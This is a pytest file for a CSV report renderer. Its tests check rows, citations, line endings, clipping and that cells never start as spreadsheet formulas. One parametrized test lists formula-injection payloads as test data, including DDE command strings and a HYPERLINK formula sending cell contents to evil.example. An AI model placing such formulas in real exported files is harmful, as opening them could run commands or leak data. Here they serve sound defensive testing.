"""The table, read back as a spreadsheet reads it."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kimidoc.report import csv as report_csv
from kimidoc.types import Report
from tests.report.conftest import ANSWERS, FINDINGS, HAN, LEASE, LICENCE, empty


def _rows(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    rows = list(reader)
    assert tuple(reader.fieldnames or ()) == report_csv.COLUMNS
    assert all(None not in row and None not in row.values() for row in rows)  # no row is ragged
    return rows


def test_a_row_per_citation_and_one_for_each_without(report: Report) -> None:
    rows = _rows(report_csv.render(report))
    expected = sum(len(f.citations) or 1 for f in FINDINGS) + sum(
        len(a.citations) or 1 for a in ANSWERS
    )
    assert len(rows) == expected + 1
    assert list(dict.fromkeys(row["record"] for row in rows)) == ["finding", "answer", "method"]
    assert rows[-1]["text"] == "Rules chose the places; a quote may answer nothing."
    han = next(
        row for row in rows if row["citation_status"] == "exact" and row["quote"] == HAN.text
    )
    assert han["document"] == HAN.path and han["section"] == "第八条 转让"
    assert (han["start_char"], han["end_char"]) == ("412", "431")


def test_an_answer_not_found_names_the_document_it_was_asked_of(report: Report) -> None:
    rows = {row["id"]: row for row in _rows(report_csv.render(report))}
    assert (rows["q2"]["status"], rows["q2"]["document"]) == ("not_found", LICENCE)
    assert rows["q3"]["document"] == LEASE and rows["q3"]["quote"] == ""
    assert rows["q5"]["text"] == "The engine ran out of memory."


def test_lines_end_as_rfc_4180_says(report: Report) -> None:
    text = report_csv.render(report)
    assert text.endswith("\r\n") and "\r\r" not in text
    assert text.startswith("record,id,title,severity,")


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        '=HYPERLINK("http://evil.example?x="&A1)',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＠x",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\x0b=1+1",
    ],
)
def test_no_cell_is_a_formula(formula: str) -> None:
    finding = replace(FINDINGS[0], title=formula, message=formula, path=formula, citations=())
    (row,) = _rows(report_csv.render(replace(empty(), findings=(finding,))))
    for name in ("title", "text", "document"):
        assert row[name].lstrip(" \n\xa0")[0] not in "=+-@\t\r＝＋－＠"


@given(st.text(max_size=80))
def test_no_text_is_a_formula_or_ragged(text: str) -> None:
    finding = replace(FINDINGS[0], title=text, message=text, citations=())
    (row,) = _rows(report_csv.render(replace(empty(), findings=(finding,))))
    assert row["title"].strip(" \n\xa0")[:1] not in set("=+-@＝＋－＠")


def test_numbers_stay_numbers_and_long_text_is_clipped() -> None:
    assert report_csv.cell(-3) == -3 and report_csv.cell(None) == ""
    clipped = report_csv.cell("word " * 20_000)
    assert isinstance(clipped, str)
    assert len(clipped) < 32_767 and clipped.endswith("more characters]")
